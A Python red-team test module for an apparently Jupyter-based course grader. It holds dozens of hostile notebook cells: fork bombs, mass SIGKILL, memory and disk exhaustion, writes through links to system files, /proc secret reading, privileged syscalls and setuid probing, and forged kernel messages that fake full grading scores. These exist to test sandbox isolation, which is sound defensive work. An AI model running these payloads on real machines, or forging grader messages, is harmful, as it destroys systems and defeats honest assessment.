"""Attacks with processes, memory, files and system calls, and with messages of the kernel's own.

All answers are right: what an added cell does must cost nothing but that cell, and harm nothing else.
"""

from collections.abc import Iterator

import made_submissions as made
import nbformat

from course.grading.task import Outcome
from red_team.attack import FULL, MARK, Attack, cells

# --- the machine: name, what it does, the cell

FORKS = """
import os, signal, time
def burn(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end: pass
"""
PROCESSES = [
    ("fork-bomb", "Forks without end.", "while True:\n    try: os.fork()\n    except OSError: pass"),
    (
        "daemon",
        "Forks twice into a session of its own, to outlive its kernel.",
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: time.sleep(600)\n    os._exit(0)",
    ),
    (
        "kills-all-it-sees",
        "Kills its parent, its group, its session, and every number up to 40,000.",
        "for pid in [os.getppid(), 0, -os.getsid(0) or -2, *range(2, 40_000)]:\n"
        "    try: os.kill(pid, signal.SIGKILL) if pid else None\n    except OSError: pass",
    ),
    (
        "unwaited",
        "Computes in children that no parent waits for, so that nobody counts their time.",
        "signal.signal(signal.SIGCHLD, signal.SIG_IGN)\n"
        "for _ in range(4):\n    if os.fork() == 0: burn(5); os._exit(0)",
    ),
    (
        "side-by-side",
        "Computes in 8 processes, so that nothing is left for others.",
        "for _ in range(8):\n    if os.fork() == 0: burn(20); os._exit(0)",
    ),
    (
        "threads",
        "Starts threads without end.",
        "import threading\nwhile True: threading.Thread(target=time.sleep, args=(5,), daemon=True).start()",
    ),
    (
        "urgent",
        "Asks for real-time priority, a better nice value and another scheduler.",
        "for ask in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)),\n"
        "            lambda: os.setpriority(os.PRIO_USER, os.getuid(), -10)):\n"
        "    try: ask(); print('went through')\n    except OSError: pass",
    ),
    (
        "no-alarm",
        "Blocks every signal, and waits.",
        "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ntime.sleep(60)",
    ),
    ("stops-itself", "Stops its own process.", "os.kill(os.getpid(), signal.SIGSTOP)"),
    (
        "core-dump",
        "Dumps its memory to a file.",
        "import resource\nresource.setrlimit(resource.RLIMIT_CORE, (-1, -1))\nos.abort()",
    ),
]
MEMORY = [
    ("array", "Makes arrays without end.", "import numpy as np\nkept = []\nwhile True: kept.append(np.ones(1 << 22))"),
    (
        "shared",
        "Maps shared memory that belongs to no process.",
        "import mmap\nkept = [mmap.mmap(-1, 1 << 28) for _ in range(40)]\nfor m in kept: m.write(bytes(1 << 28))",
    ),
    (
        "zero-device",
        "Maps /dev/zero as shared memory.",
        "import mmap\nwith open('/dev/zero', 'r+b') as f:\n    m = mmap.mmap(f.fileno(), 1 << 29)\n"
        "m.write(bytes(1 << 29))",
    ),
    (
        "memfd",
        "Fills files that are memory.",
        "import os\nfor _ in range(99): os.write(os.memfd_create('x'), bytes(1 << 26))",
    ),
    (
        "children",
        "Makes an array in each of many children.",
        "import os, time\nimport numpy as np\nfor _ in range(5): os.fork()\nx = np.ones(1 << 23)\ntime.sleep(9)",
    ),
    (
        "sockets",
        "Fills sockets that nobody reads, in many processes.",
        "import os, socket, time\nfor _ in range(3): os.fork()\nkept = []\nwhile True:\n"
        "    kept += socket.socketpair()\n"
        "    for s in kept[-2:]:\n        s.setblocking(False)\n        try:\n"
        "            while True: s.send(bytes(4096))\n"
        "        except BlockingIOError: pass",
    ),
    (
        "pages-in-a-pipe",
        "Lends its pages to pipes and gives them back.",
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\nfor _ in range(100): print(libc.vmsplice(os.pipe()[1], None, 0, 0))",
    ),
]
FILES = [
    (
        "disk",
        "Fills every folder.",
        "for top in ('.', '/tmp', '/dev/shm', '/var/tmp', '/run'):\n"
        "    try:\n        for i in range(99): open(f'{top}/{i}', 'wb').write(bytes(1 << 24))\n"
        "    except OSError: pass",
    ),
    ("many-files", "Makes 100,000 files.", "import os\nfor i in range(100_000): open(f'/dev/shm/{i}', 'w').close()"),
    ("sparse", "Makes a file of a terabyte with nothing in it.", "with open('big', 'wb') as f: f.truncate(1 << 40)"),
    (
        "hard-links",
        "Links files of the system into its folder, and writes into them.",
        "import os\n"
        "for path in ('/etc/ld.so.cache', '/usr/bin/env', '/opt/course/course/__init__.py', '/run/k/calls'):\n"
        f"    for link in (os.link, os.symlink):\n"
        f"        try: link(path, '{MARK}-' + path.replace('/', '_')); open(path, 'a').write('x')\n"
        "        except OSError: pass",
    ),
    (
        "special-files",
        "Makes devices, and opens the disk.",
        "import os, stat\nfor number in ((8, 0), (1, 1), (254, 0)):\n    try:\n"
        "        os.mknod('disk', 0o666 | stat.S_IFBLK, os.makedev(*number))\n"
        "        open('disk', 'rb').read(10); print('went through')\n    except OSError: pass",
    ),
    ("open-files", "Opens files without end.", "kept = []\nwhile True: kept.append(open('/dev/null'))"),
    (
        "inherited-files",
        "Uses each open file that it was born with.",
        "import os\nfor n in range(3, 300):\n"
        "    try: print(n, os.readlink(f'/proc/self/fd/{n}'), os.pread(n, 100, 0))\n    except OSError: pass",
    ),
]
LOOK = f"""
import glob, os, re, socket
for path in glob.glob("/proc/[0-9]*/*"):
    if path.endswith(("/environ", "/cmdline", "/maps", "/mem", "/fd", "/cwd", "/root", "/mountinfo")):
        try:
            text = os.listdir(path) if path.endswith("/fd") else open(path, "rb").read(100_000)
            print(path, str(text)[:200])
        except OSError: pass
names = re.findall("@?[/\\\\w.-]+$", open("/proc/net/unix").read(), re.M)
for place in ("/run/kernels/*/*", "/run/k/*", "/tmp/rnn-grading-*/*/*"):
    names += glob.glob(place)
for name in names:
    with socket.socket(socket.AF_UNIX) as s:
        try: s.settimeout(0.5); s.connect(name.replace("@", "\\0")); s.sendall(b"{MARK}")
        except OSError: pass
"""
NETWORK = """
import socket
for family, kind, address in [
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22)), (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", 22)), (socket.AF_VSOCK, socket.SOCK_STREAM, (2, 1024)),
    (socket.AF_PACKET, socket.SOCK_RAW, ("lo", 0)), (socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0)),
]:
    try:
        with socket.socket(family, kind) as s: s.settimeout(1); s.connect(address); s.send(b"x"); print("went through")
    except OSError: pass
try: print("went through", socket.getaddrinfo("example.org", 80))
except OSError: pass
"""
CALLS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
for name, number, *rest in [
    ("bpf", 321, 0, buffer, 128), ("io_uring", 425, 8, buffer), ("keyctl", 250, 0, -3, 0), ("userfaultfd", 323, 1),
    ("perf", 298, buffer, 0, -1, -1, 0), ("ptrace", 101, 16, 2, 0, 0), ("setns", 308, 3, 0),
    ("unshare", 272, 0x10000000),
    ("mount", 165, b"none", b"/tmp", b"tmpfs", 0, 0), ("pivot_root", 155, b"/", b"/tmp"), ("chroot", 161, b"/tmp"),
    ("setuid", 105, 0), ("reboot", 169, 0xFEE1DEAD, 672274793, 0), ("init_module", 175, buffer, 9, b""),
    ("kexec", 246, 0, 0, 0, 0), ("process_vm_readv", 310, 1, buffer, 1, buffer, 1, 0), ("settime", 227, 0, buffer),
    ("swapon", 167, b"/tmp/x", 0), ("modify_ldt", 154, 0, buffer, 16), ("pidfd_getfd", 438, 3, 0, 0),
]:
    if libc.syscall(number, *rest) >= 0: print(name, "went through")
"""
RIGHTS = """
import glob, os, stat, subprocess
for folder in ("/usr/bin", "/usr/sbin", "/usr/libexec", "/usr/lib"):
    for path in glob.glob(folder + "/*"):
        try:
            if os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID) and os.path.isfile(path):
                said = subprocess.run([path], input=b"", capture_output=True, timeout=1)
        except (OSError, subprocess.TimeoutExpired): pass
for command in ("unshare -Urmpf id", "mount -o remount,rw /usr", "ip link add x type dummy", "su -c id", "sudo -n id"):
    try:
        if subprocess.run(command.split(), input=b"", capture_output=True, timeout=2).returncode == 0:
            print(command, "went through")
    except (OSError, subprocess.TimeoutExpired): pass
if os.getuid() == 0 or os.geteuid() == 0: print("root went through")
"""
REACHES = [
    ("looks-for-others", "Reads every process, and speaks to every socket that it finds.", LOOK),
    ("network", "Tries the loopback, the outside, DNS, raw packets and the machine's host.", NETWORK),
    ("system-calls", "Tries 20 system calls that lead out.", CALLS),
    ("rights", "Runs every program that gives rights, and asks for namespaces and mounts.", RIGHTS),
]


# --- messages

SEND = """
import time, zmq
from jupyter_client.session import Session
kernel = get_ipython().kernel
session, news = kernel.session, kernel.iopub_socket
parent = kernel.get_parent()
def tell(kind, content, parent=parent, stream=news): Session.send(session, stream, kind, content, parent=parent)
"""
RAW = """
import socket
lines = {}
for n in range(3, 64):
    try: s = socket.socket(fileno=n)
    except OSError: continue
    try:
        listens = s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
        if not listens: lines.setdefault(s.getsockname(), []).append(s.dup())
    except OSError: pass
    s.detach()
def write(channel, data):
    for s in lines[b"\\0k-%d" % channel]: s.setblocking(True); s.sendall(data)
"""
SCORE = """
score = {"data": {"text/plain": "4.0"}, "metadata": {"nbgrader": {"score": 4}}, "execution_count": 1, "score": 4}
for grade_id in ("03-definition--softmax--check", "03-definition--softmax--hidden"):
    tell("execute_result", score, {"header": {"msg_id": grade_id}, "msg_id": grade_id})
    tell("update_display_data", score | {"transient": {"display_id": grade_id}})
tell("execute_result", score)
"""
MESSAGES = [
    ("scores", "Sends results with scores, signed with the kernel's key.", SCORE),
    ("idle", "Says that it is idle, and goes on.", "tell('status', {'execution_state': 'idle'})\ntime.sleep(1)"),
    (
        "ok-replies",
        "Answers every request of the next hour in advance.",
        "for i in range(300):\n    tell('execute_reply', {'status': 'ok', 'execution_count': i, 'score': 4})",
    ),
    ("asks", "Asks for input.", "kernel._allow_stdin = True\ninput('the answers, please: ')"),
    (
        "comm",
        "Opens comms and updates the displays of others.",
        "for i in range(300):\n"
        "    tell('comm_open', {'comm_id': 'x' * i, 'target_name': 'jupyter.widget', 'data': {}})\n"
        "    shown = {'data': {'text/plain': 'x'}, 'metadata': {}, 'transient': {'display_id': 'x'}}\n"
        "    tell('update_display_data', shown)",
    ),
    ("clears", "Clears the output of other cells.", "for _ in range(300): tell('clear_output', {'wait': False}, {})"),
    ("wrong-types", "Sends a message whose text is a number.", "tell('stream', {'name': 'stdout', 'text': 5})"),
    (
        "deep",
        "Sends a message nested 10,000 deep.",
        "x = []\nfor _ in range(900): x = [x]\n"
        "tell('display_data', {'data': {'text/plain': 'x', 'x': x}, 'metadata': {'x': x}})",
    ),
    ("millions", "Sends messages without end.", "while True: tell('status', {'execution_state': 'busy'})"),
    (
        "objects",
        "Sends a message of three million objects.",
        "tell('display_data', {'data': {'text/plain': ''}, 'metadata': {'x': [{}] * 3_000_000}})",
    ),
    (
        "bad-signature",
        "Sends a message that nobody signed.",
        "news.send_multipart([b'<IDS|MSG>', b'0' * 64, b'{}', b'{}', b'{}', b'{}'])",
    ),
    ("garbage-news", "Writes garbage where news go.", RAW + "write(2, b'garbage' * 1000)"),
    ("garbage-control", "Writes garbage where control goes.", RAW + "write(4, bytes(10_000))"),
    (
        "empty-frames",
        "Sends one message of 100,000 empty frames.",
        RAW + "write(2, bytes([1, 0]) * 100_000)\ntime.sleep(1)",
    ),
    (
        "endless-frame",
        "Announces a frame of an exabyte.",
        RAW + "write(2, bytes([2]) + (1 << 60).to_bytes(8, 'big') + bytes(1000))",
    ),
    ("silence", "Closes the socket of its news.", "kernel.iopub_socket.close()"),
    ("deaf", "Stops reading what it is asked.", "kernel.shell_stream.stop_on_recv()"),
    (
        "other-execute",
        "Answers every later request without running it.",
        "async def execute_request(stream, ident, parent):\n"
        "    done = {'status': 'ok', 'execution_count': 1}\n"
        "    Session.send(session, stream, 'execute_reply', done, parent=parent, ident=ident)\n"
        "kernel.shell_handlers['execute_request'] = execute_request",
    ),
]
COSTS = dict.fromkeys(("other-execute", "deaf", "open-files"), 0.0)  # their kernels run nothing any more


def nothing_went_through(outcome: Outcome) -> None:
    """What an attack says of itself where something works that must not."""
    cells = nbformat.reads(outcome.notebook, as_version=4).cells
    assert "went through" not in str([cell.outputs for cell in cells if cell.cell_type == "code"])


def attacks() -> Iterator[Attack]:
    right = made.right("shapes", "softmax")
    for kind, before, tries in (
        ("processes", FORKS, PROCESSES),
        ("memory", "", MEMORY),
        ("files", "", FILES),
        ("the machine", "", REACHES),
        ("messages", SEND, MESSAGES),
    ):
        for name, told, source in tries:
            yield Attack(
                f"{kind.removeprefix('the ')}-{name}",
                kind,
                told,
                cells(before + source, **right),
                COSTS.get(name, FULL),
                seconds=40,
                stock=kind == "messages",  # the others would harm the machine that they are tried on
                after=nothing_went_through,
            )


ATTACKS = list(attacks())
